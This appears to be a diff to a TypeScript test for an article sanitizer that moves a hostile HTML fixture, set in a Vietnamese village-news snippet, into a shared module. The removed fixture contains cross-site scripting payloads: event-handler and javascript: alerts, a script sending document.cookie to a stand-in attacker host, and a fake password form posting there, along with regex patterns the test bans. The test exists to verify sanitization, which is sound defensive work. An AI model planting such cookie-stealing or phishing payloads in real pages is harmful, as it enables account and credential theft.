@@ -11,15 +11,7 @@ import { listQuarantine } from '../../utils/library/quarantine';
 import { sanitizeArticleHtml } from '../../utils/html/sanitize';
 import { sanitizerWindow } from '../../utils/html/parse-html';
 import { makeArticle } from '../library/fixtures/articles';
-
-const HOSTILE_HTML =
-  '<p onclick="alert(1)" onmouseover="alert(2)">Xã Gia Phú tổ chức họp dân về dự án đường liên thôn.</p>' +
-  '<script>fetch("https://ke-gian.example/?" + document.cookie)</script>' +
-  '<p>Xem <a href="javascript:alert(3)">biên bản cuộc họp</a> và <a href="https://giaphu.laocai.gov.vn/bien-ban">bản gốc</a>.</p>' +
-  '<form action="https://ke-gian.example/login"><input name="mat-khau"><button>Gửi</button></form>' +
-  '<svg><script>alert(4)</script><circle r="1"></circle></svg>' +
-  '<img src="https://giaphu.laocai.gov.vn/anh.jpg" onerror="alert(5)" alt="Cuộc họp">' +
-  '<p>Người dân đồng thuận hiến đất làm đường.</p>';
+import { HOSTILE_BANNED, HOSTILE_HTML, HOSTILE_KEPT } from './third-device';
 
 async function hostileFile() {
   const source = await openLibrary({ name: `sync-source-${Math.random()}` });
@@ -39,12 +31,8 @@ describe('an article arriving by sync', () => {
     const sanitise = async (html: string) => sanitizeArticleHtml(html, window);
     expect(await receiveArticle(db, file.keys, file.logicalName, file.sealed, sanitise)).toEqual({ outcome: 'added' });
     const html = (await getArticle(db, file.id))!.html;
-    for (const banned of [/<script/i, /\son\w+=/i, /javascript:/i, /<form/i, /<input/i, /<button/i, /<svg/i, /<circle/i, /ke-gian/]) {
-      expect(html).not.toMatch(banned);
-    }
-    for (const words of ['Xã Gia Phú tổ chức họp dân về dự án đường liên thôn.', 'biên bản cuộc họp', 'Người dân đồng thuận hiến đất làm đường.']) {
-      expect(html).toContain(words);
-    }
+    for (const banned of HOSTILE_BANNED) expect(html).not.toMatch(banned);
+    for (const words of HOSTILE_KEPT) expect(html).toContain(words);
     expect(html).toContain('href="https://giaphu.laocai.gov.vn/bien-ban"');
     expect(html).toContain('src="https://giaphu.laocai.gov.vn/anh.jpg"');
     expect(await listQuarantine(db)).toEqual([]);
